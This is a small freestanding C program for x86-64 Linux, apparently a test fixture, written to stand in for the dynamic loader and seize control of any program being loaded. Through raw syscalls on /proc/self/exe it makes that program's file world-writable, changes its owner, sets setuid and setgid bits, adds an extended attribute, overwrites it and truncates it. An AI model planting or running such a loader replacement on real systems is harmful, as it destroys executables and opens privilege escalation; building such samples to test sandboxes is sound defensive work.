/* Stands where the dynamic loader of x86-64 is looked for: gets control of whatever program was to be
 * loaded, and attacks that program's file through the kernel's link to it. No library. */
static long call(long number, long a, long b, long c, long d, long e) {
    long result;
    register long fourth __asm__("r10") = d;
    register long fifth __asm__("r8") = e;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth), "r"(fifth)
                     : "rcx", "r11", "memory");
    return result;
}

void _start(void) {
    static const char own[] = "/proc/self/exe", said[] = "attacked\n", name[] = "user.attack";
    long file = call(257, -100, (long)own, 0, 0, 0);
    call(91, file, 0777, 0, 0, 0);                        /* fchmod */
    call(93, file, 5, 5, 0, 0);                           /* fchown */
    call(90, (long)own, 06777, 0, 0, 0);                  /* chmod */
    call(190, file, (long)name, (long)said, 3, 0);        /* fsetxattr */
    long writable = call(257, -100, (long)own, 1, 0, 0);  /* open for writing */
    call(1, writable, (long)said, 9, 0, 0);
    call(76, (long)own, 0, 0, 0, 0);                      /* truncate */
    call(1, 1, (long)said, 9, 0, 0);
    call(60, 0, 0, 0, 0, 0);
}
